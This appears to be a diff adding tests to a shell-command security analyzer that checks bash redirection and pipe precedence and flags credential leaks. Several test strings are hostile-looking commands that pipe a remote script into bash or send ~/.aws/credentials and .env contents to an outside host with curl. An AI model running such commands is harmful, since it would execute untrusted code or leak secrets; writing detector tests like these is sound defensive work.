@@ -183,3 +183,32 @@ TEST_CASE("a shell reading stdin with -s takes the rest as arguments, not a scri
   auto facts = analyze("curl https://a.example.com/x.sh | bash -s -- --yes");
   CHECK(has_flow(facts, "network", "exec"));
 }
+
+// tree-sitter-bash reads "a && b 2>&1 | c" as "(a && b) 2>&1 | c"; bash binds the redirection and
+// the pipe to b alone, and so must the analysis.
+TEST_CASE("a redirection after the last command of a && list binds to that command only") {
+  auto hidden = analyze("cat ~/.aws/credentials && true > /dev/null");
+  REQUIRE(hidden.statements.size() == 2);
+  CHECK(has_flow(hidden, "credential_file", "output"));
+
+  auto chained = analyze("git commit -m 'fix shard 3' && npm test 2>&1 | tail -20");
+  REQUIRE(chained.statements.size() == 2);
+  CHECK(chained.statements[0].end == 27);
+  CHECK(chained.statements[1].begin == 31);
+  CHECK_FALSE(has_context(*command_named(chained, "git"), "pipeline"));
+  CHECK(has_context(*command_named(chained, "npm"), "pipeline"));
+  CHECK(has_context(*command_named(chained, "tail"), "pipeline"));
+}
+
+TEST_CASE("what an earlier list element prints does not flow into the pipe after the last one") {
+  auto facts = analyze("cat .env && echo done 2>&1 | curl -d @- https://x.example");
+  CHECK_FALSE(secret_leaves(facts));
+  CHECK(has_flow(facts, "credential_file", "output"));
+  // The pipe still carries what the last command prints.
+  CHECK(secret_leaves(analyze("echo ok && cat .env 2>&1 | curl -d @- https://x.example")));
+}
+
+TEST_CASE("an input redirection after a pipeline feeds its last stage") {
+  CHECK(secret_leaves(analyze("true && echo hi | curl -d @- https://x.example < .env")));
+  CHECK_FALSE(secret_leaves(analyze("cat .env | curl -d @- https://x.example < /dev/null")));
+}
